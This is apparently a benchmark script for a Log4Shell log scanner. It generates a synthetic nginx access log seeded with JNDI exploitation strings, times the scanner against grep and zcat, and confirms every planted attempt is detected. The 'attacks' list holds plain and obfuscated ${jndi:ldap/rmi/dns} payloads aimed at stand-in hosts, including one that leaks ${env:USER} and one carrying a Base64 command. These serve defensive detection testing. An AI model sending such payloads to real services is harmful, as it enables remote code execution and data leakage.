#!/bin/sh
# logs-bench.sh - throughput of `log4scan logs` (not a test).
#
# Generates, once and deterministically, a 1 GB nginx "combined" access log
# with an exploitation attempt (plain and obfuscated forms, in the user
# agent or the query string) on 1 line in 10,000, under bench/out/, and its
# gzip.  Then, page cache warm, times:
#   log4scan logs on the plain file    -> GB/s (one thread, so per core)
#   grep -c jndi on the same file      -> the ratio to it
#   log4scan logs on the gzip file     -> against zcat file.gz > /dev/null
# and checks that every generated attempt was found.  Wall and CPU time
# are both printed: on a shared machine, CPU time is the per-core figure.
#
#   sh bench/logs-bench.sh            (L4S=path/to/log4scan to pick a build)
#   SIZE_MB=256 sh bench/logs-bench.sh  for a quicker, smaller run
set -eu
top=$(cd "$(dirname "$0")/.." && pwd)
L4S=${L4S:-$top/build/log4scan}
SIZE_MB=${SIZE_MB:-1024}
out=$top/bench/out
mkdir -p "$out"
log=$out/access-$SIZE_MB.log
gz=$log.gz
[ -x "$L4S" ] || { echo "logs-bench: no $L4S (run make first)" >&2; exit 2; }

if [ ! -s "$log.done" ]; then
	echo "generating $log ($SIZE_MB MB) ..."
	python3 - "$log" "$SIZE_MB" <<'EOF'
import sys
path, size_mb = sys.argv[1], int(sys.argv[2])
target = size_mb << 20
# A fixed linear congruential generator: the same file on every machine.
state = 20211210
def rnd(n):
    global state
    state = (state * 6364136223846793005 + 1442695040888963407) & ((1 << 64) - 1)
    return (state >> 33) % n
paths = ["/", "/index.html", "/static/app.%d.js", "/api/v1/items?page=%d&sort=price",
         "/search?q=caf%%C3%%A9%%20au%%20lait&n=%d", "/img/p%d.png", "/login?next=%%2Fhome%%3Fa%%3D%d",
         "/cart/add?item=%d&qty=1&ref=mail", "/blog/2021/12/post-%d.html", "/health"]
agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36",
          "curl/7.74.0", "python-requests/2.26.0", "Googlebot/2.1 (+http://www.google.com/bot.html)",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"]
referers = ["-", "https://example.org/", "https://www.example.com/search?q=shoes&page=2",
            "https://news.example.net/a?utm_source=x&utm_medium=y"]
attacks = ["${jndi:ldap://203.0.113.%d:1389/a}", "${${lower:j}ndi:ldap://198.51.100.%d/x}",
           "${${::-j}${::-n}${::-d}${::-i}:rmi://evil%d.example/o}",
           "%%24%%7Bjndi:dns://%d.dnslog.example/a%%7D", "${jndi:ldap://${env:USER}.c%d.example/a}",
           "${j${k8s:k5:-ND}i:ldap://x%d.example:1389/Basic/Command/Base64/aWQ=}"]
months = ["Dec"]
lines = 0
attempts = 0
size = 0
chunk = []
with open(path, "w") as f:
    while size < target:
        lines += 1
        sec = lines // 50
        ts = "%02d/%s/2021:%02d:%02d:%02d +0000" % (10 + sec // 86400 % 20, "Dec", sec // 3600 % 24,
                                                   sec // 60 % 60, sec % 60)
        p = paths[rnd(len(paths))]
        if "%d" in p:
            p = p % rnd(100000)
        ua = agents[rnd(len(agents))]
        if lines % 10000 == 0:
            a = attacks[attempts % len(attacks)] % (attempts % 250)
            attempts += 1
            if attempts % 2:
                ua = a
            else:
                p = "/?q=" + a
        line = '%d.%d.%d.%d - - [%s] "GET %s HTTP/1.1" %d %d "%s" "%s"\n' % (
            rnd(223) + 1, rnd(256), rnd(256), rnd(254) + 1, ts, p, (200, 200, 200, 304, 404)[rnd(5)],
            rnd(50000), referers[rnd(len(referers))], ua)
        chunk.append(line)
        size += len(line)
        if len(chunk) == 10000:
            f.write("".join(chunk))
            chunk = []
    f.write("".join(chunk))
with open(path + ".done", "w") as f:
    f.write("%d %d\n" % (lines, attempts))
EOF
	rm -f "$gz"
fi
if [ ! -s "$gz" ]; then
	echo "compressing ..."
	gzip -c -6 "$log" > "$gz.tmp" && mv "$gz.tmp" "$gz"
fi
read -r lines attempts < "$log.done"

cat "$log" "$gz" > /dev/null    # warm the page cache
# Each command runs three times; the best wall time and the best CPU time
# (user + system of the command and its children) are kept.  CPU time is
# the per-core figure and the one to trust on a machine shared with other
# work; wall time is printed beside it.
python3 - "$L4S" "$log" "$gz" "$lines" "$attempts" <<'EOF'
import json, os, resource, subprocess, sys
l4s, log, gz, lines, attempts = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
gb = os.path.getsize(log) / 1e9


def measure(cmd):
    best_wall = best_cpu = None
    out = b""
    for _ in range(3):
        r0 = resource.getrusage(resource.RUSAGE_CHILDREN)
        t0 = os.times().elapsed
        p = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        wall = os.times().elapsed - t0
        r1 = resource.getrusage(resource.RUSAGE_CHILDREN)
        cpu = (r1.ru_utime - r0.ru_utime) + (r1.ru_stime - r0.ru_stime)
        best_wall = wall if best_wall is None else min(best_wall, wall)
        best_cpu = cpu if best_cpu is None else min(best_cpu, cpu)
        out = p.stdout
    return best_wall, best_cpu, out


def found(out):
    return json.loads(out.decode().strip().splitlines()[-1])["attempts"]


w_scan, c_scan, o_scan = measure("'%s' logs --format json '%s'" % (l4s, log))
w_grep, c_grep, _ = measure("grep -c jndi '%s'" % log)
w_zcat, c_zcat, _ = measure("zcat '%s' > /dev/null" % gz)
w_gz, c_gz, o_gz = measure("'%s' logs --format json '%s'" % (l4s, gz))
f, fg = found(o_scan), found(o_gz)
print("input: %.2f GB, %d lines, %d attempts generated (1 in 10,000 lines); gzip %.0f MB"
      % (gb, lines, attempts, os.path.getsize(gz) / 1e6))
print("                        wall s   GB/s   cpu s   GB/s per core")
print("plain: log4scan logs   %7.2f %6.2f %7.2f %6.2f   found %d" % (w_scan, gb / w_scan, c_scan, gb / c_scan, f))
print("       grep -c jndi    %7.2f %6.2f %7.2f %6.2f   log4scan/grep: %.2fx wall, %.2fx cpu"
      % (w_grep, gb / w_grep, c_grep, gb / c_grep, w_scan / w_grep, c_scan / c_grep))
print("gzip:  log4scan logs   %7.2f %6.2f %7.2f %6.2f   found %d" % (w_gz, gb / w_gz, c_gz, gb / c_gz, fg))
print("       zcat >/dev/null %7.2f %6.2f %7.2f %6.2f   log4scan/zcat: %.2fx wall, %.2fx cpu"
      % (w_zcat, gb / w_zcat, c_zcat, gb / c_zcat, w_gz / w_zcat, c_gz / c_zcat))
ok = f == attempts and fg == attempts
print("targets: >= 1 GB/s per core on plain text: %s; gzip within 2x of zcat: %s; every attempt found: %s"
      % ("met" if gb / c_scan >= 1 else "NOT met", "met" if c_gz / c_zcat <= 2 else "NOT met",
         "yes" if ok else "NO"))
sys.exit(0 if ok else 1)
EOF
